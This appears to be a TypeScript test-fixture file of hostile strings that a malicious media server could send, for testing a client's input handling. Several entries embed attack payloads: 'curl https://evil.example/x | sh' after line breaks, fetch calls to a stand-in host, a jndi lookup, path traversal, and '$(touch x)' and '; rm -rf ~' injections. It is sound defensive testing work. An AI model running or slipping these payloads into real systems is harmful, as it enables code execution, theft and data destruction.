/* Texts that a hostile media server sends as titles, paths, codecs, keys and names. */

const MEGABYTE = 1_000_000;

/** Texts of a megabyte, on which careless regular expressions and loops take forever. */
export const LONG_TEXTS = {
  'one letter': () => 'a'.repeat(MEGABYTE),
  'letters and dots': () => `${'a.'.repeat(MEGABYTE / 2)}!`,
  'dots between letters': () => `a${'.'.repeat(MEGABYTE)}b`,
  'spaces between letters': () => `a${' '.repeat(MEGABYTE)}b`,
  'line breaks between letters': () => `a${'\n'.repeat(MEGABYTE)}b`,
  slashes: () => '/'.repeat(MEGABYTE),
  'surrogate pairs': () => '🎬'.repeat(MEGABYTE / 4),
  'combining marks': () => `e${'\u0301'.repeat(MEGABYTE / 2)}`,
} as const;

/** Texts with characters that hide, reorder or break what is around them. */
export const DIRTY_TEXTS = {
  'line break': 'Film\ncurl https://evil.example/x | sh\n',
  'carriage return': 'Film\rcurl https://evil.example/x | sh\r\n',
  'Unicode line breaks': 'Film\u0085next\u2028next\u2029next',
  'other controls': 'Film\u0000\u0001\u0007\u0008\u000b\u000c\u007f\u0080\u009f',
  'terminal escape': 'Film\u001b[2J\u001b]0;owned\u0007\u009b31m',
  'bidirectional override': 'Film\u202egnp.exe\u202c',
  'bidirectional isolate': 'Film\u2066\u2067\u2068exe\u2069\u061c',
  'invisible characters': 'Fi\u200blm\u2060\ufeff\u00ad\u180e\u{e0041}\u{e007f}',
  'lone surrogates': 'Film\ud83d and \udcac',
  markup: `<img src=x onerror="fetch('https://evil.example/')"></textarea><script>alert(1)</script>`,
  'playlist line': 'Film\n#EXTINF:-1,\nhttps://evil.example/x.m3u8',
  'script address': 'javascript:fetch("https://evil.example/")',
  'template and format': '\u0024{jndi:ldap://evil.example/} %s %n {{7*7}} $& $1 $$',
  'only spaces': ' \u00a0\u3000\t ',
  'only dots': '...',
  empty: '',
} as const;

/** Names that every object has. */
export const PROTOTYPE_NAMES = [
  ...['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'toJSON', 'then'],
  ...['__defineGetter__', '__lookupSetter__'],
];

/** Keys of parts that lead away from the server's parts. */
export const PART_KEYS = [
  ...[
    '//evil.example/x',
    'https://evil.example/library/parts/1/1/file.mkv',
    '\\\\evil.example\\x',
    '/\\evil.example/x',
  ],
  ...[
    '/library/parts/../../myplex/account',
    '/library/parts/%2e%2e/%2e%2e/myplex/account',
    '/library/parts/..%2f..%2f',
  ],
  ...[
    '/library/parts/1/..\\..\\..\\myplex\\account',
    '/library/parts/\t../1/file.mkv',
    '\n/library/parts/1/1/file.mkv',
  ],
  ...['/library/parts/1/1/file.mkv?X-Plex-Token=other', '/library/parts/1/1/file.mkv?download=0&X-Plex-Token='],
  ...['/library/parts/1/1/file.mkv#?X-Plex-Token=', '/library/parts/1/1/file.mkv;@evil.example', '@evil.example/x'],
  ...['.evil.example/library/parts/1/1/file.mkv', ':1@evil.example/x', '/library/parts', '/library/parts/', ''],
  ...['javascript:alert(1)', 'data:text/html,x', 'file:///etc/passwd', '/library/parts/1/1/file.mkv\u0000.exe'],
  ...['/library/partsx/1/1/file.mkv', '/LIBRARY/PARTS/1/1/file.mkv', '/security/token?type=delegation&scope=all'],
];

/** Containers, and so extensions of files, that a player would not write. */
export const CONTAINERS = [
  ...['m/../../kv', '..\\..\\mkv', 'exe', 'scf', 'desktop', 'lnk', 'url', 'html', 'svg', 'js', 'hta', 'command', 'app'],
  ...['mkv\u0000', 'mkv\u202evkm.exe', 'mkv\n', 'mkv.exe', ' ', '.', '..', 'mkv:stream', 'mkv?', '__proto__', 'MKV '],
];

/** Paths of files with names that an operating system treats in its own way. */
export const FILE_PATHS = [
  ...['/data/CON', '/data/con.mkv', '/data/NUL.tar.mkv', '/data/COM1', '/data/LPT¹.mkv', '/data/AUX .mkv', 'CONIN$'],
  ...['\\\\evil.example\\share\\film.mkv', '//evil.example/share/film.mkv', 'C:\\Windows\\..\\film.mkv', 'C:film.mkv'],
  ...[
    '/data/film.mkv::$DATA',
    '/data/-rf',
    '/data/$(touch x).mkv',
    '/data/`touch x`.mkv',
    '/data/; rm -rf ~',
    '~/.ssh',
  ],
  ...['/data/film.mkv. . .', '/data/.', '/data/..', '/data/.bashrc', '/data/desktop.ini', 'file:///etc/passwd'],
  ...['/data/film\ncurl https://evil.example/x | sh\n.mkv', '/data/film\u202egnp.exe', '/data/film\u001b[2J.mkv', '/'],
];
